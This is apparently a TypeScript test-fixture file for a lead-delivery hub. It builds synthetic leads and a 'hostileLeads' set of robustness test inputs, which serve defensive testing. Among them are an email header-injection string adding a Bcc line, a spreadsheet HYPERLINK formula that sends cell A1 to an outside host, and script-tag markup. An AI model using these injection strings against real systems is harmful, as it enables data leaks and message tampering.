import { v7 as uuidv7 } from 'uuid'
import type { Connector, DeliveredRecord, Delivery, KeptRecord, Receipt } from '../../src/connector.ts'
import type { Lead, Person } from '../../src/lead/lead.ts'
import { compileMapping, map } from '../../src/mapping/map.ts'

const receivedAt = new Date('2025-11-20T14:03:12.456Z')

type LeadParts = Partial<Omit<Lead, 'person'>> & { person?: Partial<Person> }

/** A complete lead of a person nobody else is; parts given replace its own. */
export function sampleLead({ person, ...parts }: LeadParts = {}): Lead {
  const id = uuidv7()
  const mark = id.slice(-12)
  return {
    id,
    received: receivedAt.toISOString(),
    sent: '',
    source: {
      endpoint: 'marketplace',
      code: 'AzureMarketplace',
      label: 'Azure Marketplace',
      text: 'AzureMarketplace-INS|tailspin.router-pro',
    },
    action: { code: 'INS', label: 'Installed', stage: 'active' },
    offer: { id: 'tailspin.router-pro', publisher: 'tailspin', name: 'router-pro', title: 'Tailspin Router Pro' },
    description: `Wants a call about Quibbleworth-${mark}`,
    campaign: { mktcmpid: '1234' },
    test: false,
    raw: {},
    ...parts,
    person: {
      firstName: 'Zebulon',
      lastName: `Quillfeather-${mark}`,
      name: `Zebulon Quillfeather-${mark}`,
      email: `zebulon.${mark}@blatherskite.example`,
      emailDomain: 'blatherskite.example',
      phone: { raw: '(030) 9876 54321', e164: '+4930987654321' },
      country: { raw: 'Germany', alpha2: 'DE', alpha3: 'DEU', name: 'Germany' },
      company: `Blatherskite ${mark} GmbH`,
      title: 'Head of Signal Boxes',
      ...person,
    },
  }
}

/** What must never be read in a message, a log line or a receipt. */
export function personal({ person, description }: Lead): string[] {
  const { firstName, lastName, email, phone, company } = person
  return [firstName, lastName, email, phone.raw, phone.e164, company, description].filter((text) => text.length > 3)
}

const blankPerson: Person = {
  firstName: '',
  lastName: '',
  name: '',
  email: '',
  emailDomain: '',
  phone: { raw: '', e164: '' },
  country: { raw: '', alpha2: '', alpha3: '', name: '' },
  company: '',
  title: '',
}

function everywhere(text: string): Lead {
  const texts = { firstName: text, lastName: text, name: `${text} ${text}`, company: text, title: text }
  const phone = { raw: text, e164: '' }
  const country = { raw: text, alpha2: '', alpha3: '', name: '' }
  const source = { endpoint: 'form', code: text, label: text, text }
  const action = { code: text, label: text, stage: 'unknown' } as const
  const offer = { id: text, publisher: text, name: text, title: text }
  const campaign = { [text]: text }
  return sampleLead({ person: { ...texts, phone, country }, source, action, offer, campaign, description: text })
}

/** Leads that real senders and attackers produce. Each is delivered whole or `rejected`: never anything else. */
export const hostileLeads: Readonly<Record<string, () => Lead>> = {
  'nothing but blanks': () =>
    sampleLead({
      person: blankPerson,
      source: { endpoint: 'json', code: '', label: '', text: '' },
      action: { code: '', label: '', stage: 'unknown' },
      offer: { id: '', publisher: '', name: '', title: '' },
      description: '',
      campaign: {},
    }),
  emoji: () => everywhere('👩‍🚒 Žofie 東京 🚉'.repeat(8)),
  'lone surrogates': () => everywhere('left \ud83d and right \ude80 alone'),
  'a description of 100 kB': () => sampleLead({ description: 'ü'.repeat(50_000) }),
  'control characters': () => everywhere('nul \u0000 bell \u0007 escape \u001b[31m del \u007f nel \u0085 end'),
  'line breaks and header injection': () => everywhere('one\r\nBcc: everyone@blatherskite.example\r\n\r\n.\r\ntwo'),
  'the start of a formula': () => everywhere('=HYPERLINK("https://blatherskite.example/?"&A1,"+1")'),
  'markup, quotes and key-breaking signs': () => everywhere(`</td><script>"'\\/#?%&;+{{ x }}`),
}

/** The delivery the hub would hand to `connector` for this lead, mapped by the connector's own fields. */
export function deliveryOf(connector: Connector, lead = sampleLead(), overrides: Partial<Delivery> = {}): Delivery {
  return {
    id: uuidv7(),
    leadId: lead.id,
    lead,
    fields: map(lead, compileMapping(connector.fields)).fields,
    attempt: 1,
    firstAttemptAt: new Date(),
    mayBeThere: false,
    receivedAt: new Date(lead.received),
    signal: AbortSignal.timeout(20_000),
    ...overrides,
  }
}

/** The same delivery as the hub sends it again after a try whose outcome it does not know. */
export function again(delivery: Delivery): Delivery {
  return { ...delivery, attempt: delivery.attempt + 1, mayBeThere: true, signal: AbortSignal.timeout(20_000) }
}

/** What the hub hands to `erase` for a delivery that brought this reference. */
export function keptOf({ id, leadId, receivedAt }: Delivery, reference: string): DeliveredRecord {
  return { id, leadId, receivedAt, reference, signal: AbortSignal.timeout(20_000) }
}

/** What the hub hands to `present` for a delivery with this receipt, an hour later. */
export function recordOf(delivery: Delivery, { outcome, reference = '' }: Receipt): KeptRecord {
  const { id, leadId, lead, receivedAt } = delivery
  const hourAgo = new Date(Date.now() - 3_600_000)
  const email = lead.person.email.toLowerCase()
  return { id, leadId, receivedAt, reference, outcome, email, firstAttemptAt: hourAgo, deliveredAt: hourAgo }
}
